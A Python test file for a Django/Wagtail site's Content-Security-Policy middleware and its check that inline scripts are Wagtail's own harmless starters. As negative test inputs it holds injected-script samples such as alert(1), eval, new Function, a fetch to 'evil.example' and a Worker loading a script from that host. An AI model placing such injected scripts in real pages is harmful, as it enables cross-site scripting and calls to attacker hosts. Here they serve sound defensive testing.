import json
import re

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st

from fixsend.web import security

WAGTAILS_OWN = [
    'initDateChooser("id_go\\u002Dlive", {"dayOfWeekStart": 1, "format": "d/m/Y"});',
    'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/", "canChooseRoot": false});',
    '\n  (function() {\n   var panel = new InlinePanel(JSON.parse("{\\u0022a\\u0022: 1}"));\n   })();\n  ',
]


def policy(path, body="", *, is_preview=False):
    request = RequestFactory().get(path)
    request.is_preview = is_preview
    answer = security.PolicyMiddleware(lambda request: HttpResponse(body))(request)
    parts = (part.split() for part in answer["Content-Security-Policy"].split(";"))
    return {part[0]: part[1:] for part in parts}


@pytest.mark.parametrize("script", WAGTAILS_OWN)
def test_wagtails_own_starters_are_harmless(script):
    assert security.is_harmless(script)


@pytest.mark.parametrize(
    "script",
    [
        "alert(1)",
        'new Function("alert(1)")();',
        'initDateChooser("x", alert(1));',
        'initDateChooser("x"); alert(1);',
        'initDateChooser("x");alert("y");',
        'fetch("https://evil.example");',
        'eval("alert(1)");',
        "",
        'new PageChooser("x", {"a": (function(){})()});',
        'new InlinePanel(JSON.parse("a") + alert("b"));',
        '(function() { var panel = new InlinePanel(JSON.parse("a")); alert(1) })();',
    ],
)
def test_anything_else_is_not(script):
    assert not security.is_harmless(script)


@given(st.text(alphabet='abc(){}[]";,.= \n\\', max_size=40))
def test_what_is_called_harmless_holds_nothing_but_data(inside):
    script = f"initDateChooser({inside});"
    if security.is_harmless(script):
        json.loads(f"[{inside}]")


def test_starters_can_only_be_wagtails():
    assert not security.is_harmless('new Function("alert(1)");')
    assert not security.is_harmless('new Worker("https://evil.example/x.js");')


def test_public_pages_allow_nothing_inline_and_nothing_from_elsewhere():
    public = policy("/", "<script>alert(1)</script>" + f"<script>{WAGTAILS_OWN[0]}</script>")
    assert public["script-src"] == public["style-src"] == ["'self'"]
    assert public["default-src"] == public["frame-ancestors"] == public["object-src"] == ["'none'"]
    assert not re.search(r"unsafe|http|\*", str(public))


def test_the_back_office_allows_single_scripts_by_hash_and_never_all():
    page = policy("/admin/pages/2/edit/", f"<script>{WAGTAILS_OWN[0]}</script><script>alert(1)</script>")
    assert [source[:8] for source in page["script-src"]] == ["'self'", "'sha256-"]
    assert "'unsafe-inline'" not in page["script-src"]


def test_only_previews_may_stand_in_a_frame_and_are_as_strict_as_the_page_itself():
    assert policy("/admin/")["frame-ancestors"] == policy("/about/")["frame-ancestors"] == ["'none'"]
    preview = policy("/about/", is_preview=True)
    assert preview == {**policy("/about/"), "frame-ancestors": ["'self'"]}


def test_no_page_of_the_back_office_may_ask_another_host():
    assert not re.search(r"http|\*|//", str(policy("/admin/")))
